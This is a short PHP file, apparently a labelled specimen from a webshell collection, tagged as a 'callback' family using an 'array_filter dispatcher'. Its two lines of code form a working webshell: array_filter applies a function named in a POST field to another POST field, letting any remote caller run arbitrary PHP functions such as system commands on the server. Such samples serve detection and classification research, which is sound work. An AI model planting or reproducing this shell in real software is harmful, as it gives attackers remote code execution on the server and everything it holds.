<?php
/* Family: webshell/callback
   Style: array_filter dispatcher
   Trait: array_filter over request data with a callback from the request */
$a = array($_POST['data']);
array_filter($a, $_POST['handler']);
